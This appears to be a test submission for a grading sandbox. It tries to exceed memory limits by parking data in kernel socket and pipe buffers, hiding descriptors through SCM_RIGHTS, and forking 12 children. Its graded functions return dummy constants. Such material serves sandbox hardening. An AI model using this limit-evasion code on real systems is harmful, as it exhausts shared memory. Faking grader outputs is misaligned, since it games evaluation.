# attack: holds memory in sockets and pipes, and in descriptors on their way, where no resident page counts
# expect: at most 0 points
"""Attempts to use more memory than allowed.
Channel: what waits in an AF_UNIX socketpair or a pipe belongs to the kernel: neither RssAnon nor
RssShmem nor RLIMIT_DATA counts it. Descriptors on their way (SCM_RIGHTS) are closed here, so that
RLIMIT_NOFILE does not count them, and full sockets are sent through other sockets. Up to 12
children do the same.
"""
import array
import fcntl
import os
import socket
import time

import numpy as np

LIMIT = 1200 << 20  # more than any limit here: to stop before the machine suffers


def fill_socket(keep):
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    one.setblocking(False)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
    held = 0
    try:
        while True:
            held += one.send(bytes(1 << 16))
    except OSError:
        pass
    keep.append((one, other))
    return held


def fill_pipe(keep):
    out, into = os.pipe()
    os.set_blocking(into, False)
    try:
        fcntl.fcntl(into, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError:
        pass
    held = 0
    try:
        while True:
            held += os.write(into, bytes(1 << 16))
    except OSError:
        pass
    keep.append((out, into))
    return held


def hold(share):
    keep, held, carriers = [], 0, []
    for step in range(100_000):
        if held >= share:
            break
        try:
            held += (fill_socket if step % 2 else fill_pipe)(keep)
        except OSError:
            if not carriers:
                return held, keep
        if len(keep) > 12:  # send the descriptors away and close them here
            try:
                if not carriers:
                    carriers.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
                numbers = [e if isinstance(e, int) else e.fileno() for pair in keep for e in pair]
                rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", numbers))]
                carriers[-1][0].setblocking(False)
                carriers[-1][0].sendmsg([b"x"], rights)
                for pair in keep:
                    for end in pair:
                        os.close(end) if isinstance(end, int) else end.close()
                keep.clear()
            except OSError:
                break
    return held, (keep, carriers)


def attack(*args):
    out, into = os.pipe()
    for _ in range(12):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            held, keep = hold(LIMIT // 12)
            os.write(into, held.to_bytes(8, "little"))
            time.sleep(5)
            os._exit(0)
    time.sleep(0.7)
    os.set_blocking(out, False)
    try:
        told = os.read(out, 1 << 12)
    except OSError:
        told = b""
    total = sum(int.from_bytes(told[i:i + 8], "little") for i in range(0, len(told), 8))
    print("held", total >> 20, "MB in the kernel")
    if total > 900 << 20:
        print("LEAK more memory than allowed:", total >> 20, "MB")


def weighted_sum(x, w, b=0.0):
    attack(x, w, b)
    return 1.0


def sigmoid(z):
    attack(z)
    return np.ones(np.shape(z))
